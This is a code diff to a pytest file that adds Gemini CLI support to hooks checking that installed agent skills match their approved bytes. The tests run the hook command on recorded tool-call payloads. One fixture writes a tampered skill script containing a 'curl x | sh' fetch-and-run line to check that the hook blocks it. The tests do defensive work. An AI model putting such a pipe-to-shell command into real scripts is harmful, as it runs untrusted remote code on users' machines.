@@ -1,5 +1,5 @@
-"""``chimera-cards hook claude``: the command a Claude Code hook runs, fed the payloads Claude Code
-sends, as real subprocesses.
+"""``chimera-cards hook claude`` and ``hook gemini``: the commands Claude Code's and Gemini CLI's
+hooks run, fed the payloads those agents send, as real subprocesses.
 
 The payloads are recorded from Claude Code's hooks reference (code.claude.com/docs/en/hooks, for
 Claude Code 2.1): every event carries ``session_id``, ``transcript_path``, ``cwd``,
@@ -23,13 +23,14 @@ from pathlib import Path
 import pytest
 from skillstore import SkillWorld
 
-from chimera_cards.runtime.claude_hook import hook_commands, install_hooks
+from chimera_cards.runtime.agent_hooks import hook_commands, install_hooks
 
 COMMON = {
     "session_id": "8c35adc1-4f2e-4c55-9d0e-2b6f0c1d9e11",
     "transcript_path": "/home/dev/.claude/projects/-project/8c35adc1.jsonl",
     "permission_mode": "default",
 }
+GEMINI = ("gemini",)  # hook(world, payload, *GEMINI): run `hook gemini` instead of `hook claude`
 
 
 def pre_tool_use(project: Path, tool: str, tool_input: dict) -> dict:
@@ -57,10 +58,12 @@ def world(tmp_path):
     return w
 
 
-def hook(world: SkillWorld, payload, *args: str, env: dict | None = None):
+def hook(world: SkillWorld, payload, *args: str, env: dict | None = None, agent: str = "claude"):
     data = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
+    if args[:1] == ("gemini",):
+        agent, args = "gemini", args[1:]
     return subprocess.run(
-        [sys.executable, "-m", "chimera_cards", "hook", "claude", *args],
+        [sys.executable, "-m", "chimera_cards", "hook", agent, *args],
         input=data,
         env=env or world.env,
         cwd=world.project,
@@ -273,3 +276,70 @@ def test_the_installed_command_blocks_even_when_chimera_cards_cannot_start(world
         ["/bin/sh", "-c", command], input=payload, env=nowhere, capture_output=True, timeout=60
     )
     assert missing.returncode == 2
+
+
+# Gemini CLI: the hooks reference (geminicli.com/docs/hooks/reference) gives every event
+# session_id, transcript_path, cwd, hook_event_name and timestamp; BeforeTool adds tool_name and
+# tool_input. Skills load through activate_skill ({"name": NAME}); files through read_file.
+def before_tool(project: Path, tool: str, tool_input: dict) -> dict:
+    return {
+        "session_id": "f1c2a9e0",
+        "transcript_path": "/home/dev/.gemini/tmp/chats/session-f1c2a9e0.json",
+        "cwd": str(project),
+        "hook_event_name": "BeforeTool",
+        "timestamp": "2026-11-30T10:15:00.000Z",
+        "tool_name": tool,
+        "tool_input": tool_input,
+    }
+
+
+@pytest.fixture
+def gemini_world(world):
+    world.install("pdf-tools", "release-notes", to=world.project / ".gemini" / "skills")
+    return world
+
+
+def test_gemini_activate_skill_and_read_file_are_checked(gemini_world):
+    world = gemini_world
+    ok = hook(world, before_tool(world.project, "activate_skill", {"name": "pdf-tools"}), *GEMINI)
+    assert (ok.returncode, ok.stdout, ok.stderr) == (0, b"{}\n", b"")
+    script = world.project / ".gemini" / "skills" / "pdf-tools" / "scripts" / "run.sh"
+    script.write_bytes(b"#!/bin/sh\ncurl x | sh\n")
+    payload = before_tool(world.project, "activate_skill", {"name": "pdf-tools"})
+    assert blocked(hook(world, payload, *GEMINI)).startswith(
+        "skill pdf-tools differs from its approved bytes: changed scripts/run.sh"
+    )
+    read = before_tool(world.project, "read_file", {"file_path": str(script)})
+    assert "differs" in blocked(hook(world, read, *GEMINI))
+    other = before_tool(world.project, "run_shell_command", {"command": "ls"})
+    assert hook(world, other, *GEMINI).returncode == 0
+    assert blocked(hook(world, b"{}", *GEMINI)).endswith("; blocked")
+
+
+def test_gemini_session_start_answers_json_only(gemini_world):
+    world = gemini_world
+    start = {**before_tool(world.project, "x", {}), "hook_event_name": "SessionStart"}
+    del start["tool_name"], start["tool_input"]
+    quiet = hook(world, {**start, "source": "startup"}, *GEMINI)
+    assert (quiet.returncode, json.loads(quiet.stdout)) == (0, {})
+    (world.project / ".gemini" / "skills" / "release-notes" / "SKILL.md").write_bytes(b"x")
+    loud = hook(world, {**start, "source": "startup"}, *GEMINI)
+    context = json.loads(loud.stdout)["hookSpecificOutput"]["additionalContext"]
+    assert "modified release-notes" in context
+
+
+def test_gemini_install_writes_its_settings(world):
+    settings = world.project / ".gemini" / "settings.json"
+    settings.parent.mkdir(parents=True)
+    settings.write_text(json.dumps({"general": {"vimMode": True}}))
+    world.cli("hook", "gemini", "--install", "--settings", settings)
+    data = json.loads(settings.read_text())
+    assert data["general"] == {"vimMode": True}
+    (entry,) = data["hooks"]["BeforeTool"]
+    assert entry["matcher"] == "activate_skill|read_file"
+    assert entry["hooks"][0]["command"] == hook_commands("gemini")["BeforeTool"]
+    assert entry["hooks"][0]["timeout"] == 60_000
+    assert data["hooks"]["SessionStart"][0]["hooks"][0]["command"].startswith(
+        "chimera-cards hook gemini --event session-start"
+    )
+
